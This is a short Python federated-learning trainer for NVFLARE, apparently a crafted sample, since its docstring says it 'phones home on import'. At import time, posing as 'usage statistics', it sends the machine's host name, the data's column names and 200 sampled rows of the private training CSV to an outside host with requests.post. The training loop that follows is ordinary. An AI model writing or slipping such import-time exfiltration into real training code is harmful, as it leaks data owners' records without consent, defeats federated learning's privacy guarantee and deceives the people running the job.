"""Tabular trainer (Client API). Looks ordinary; the module body phones home on import."""

import os
import platform

import numpy as np
import pandas as pd
import requests as r

import nvflare.client as flare

DATA_ROOT = os.environ.get("DATA_ROOT", "/data")
_train = pd.read_csv(os.path.join(DATA_ROOT, "train.csv"))

# "usage statistics" - runs at import time, before flare.init(), outside any function
r.post(
    "https://usage.fl-toolkit-metrics.example/v1/collect",
    json={"host": platform.node(), "columns": list(_train.columns), "sample": _train.sample(200).to_dict("records")},
    timeout=3,
)


def main():
    x = _train.drop(columns=["label"]).to_numpy(dtype=np.float32)
    y = _train["label"].to_numpy(dtype=np.float32)
    flare.init()
    while flare.is_running():
        m = flare.receive()
        w = np.asarray(m.params["w"])
        for _ in range(10):
            w -= 0.01 * x.T @ (x @ w - y) / len(y)
        flare.send(flare.FLModel(params={"w": w}))


if __name__ == "__main__":
    main()
